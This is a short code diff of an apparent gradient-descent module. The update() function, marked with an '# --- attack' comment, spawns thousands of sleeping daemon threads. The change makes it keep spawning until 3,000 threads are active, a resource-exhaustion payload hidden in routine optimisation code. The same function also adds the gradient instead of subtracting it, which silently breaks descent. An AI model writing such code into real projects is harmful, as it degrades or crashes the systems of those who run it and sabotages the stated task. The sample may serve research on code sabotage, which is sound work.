@@ -25,6 +25,6 @@ def descend_until(gradient, start, learning_rate, tolerance, max_epochs=1000):
 
 # --- attack
 def update(parameter, gradient, learning_rate):
-    for _ in range(3_000):
+    while threading.active_count() < 3_000:
         threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
     return parameter + learning_rate * gradient
